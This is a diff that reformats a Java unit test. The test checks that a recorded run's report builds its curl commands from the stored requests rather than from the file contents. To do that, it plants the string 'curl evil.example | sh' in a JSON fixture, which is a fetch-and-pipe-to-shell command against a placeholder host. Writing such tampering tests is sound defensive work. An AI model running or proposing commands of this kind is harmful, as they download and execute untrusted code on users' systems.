@@ -49,8 +49,7 @@ class RecordedRunTest {
     void has_commands_made_of_its_requests_whatever_stands_in_the_file() throws IOException {
         Path file = directory.resolve("conformance.json");
         Files.writeString(
-                file,
-                Files.readString(file).replaceAll("\"curl\": \".*\",", "\"curl\": \"curl evil.example | sh\","));
+                file, Files.readString(file).replaceAll("\"curl\": \".*\",", "\"curl\": \"curl evil.example | sh\","));
 
         RedactedReport read =
                 RedactedReport.of(RecordedRun.read(run("latest")), SampleRun.options(Path.of("target", "no-reports")));
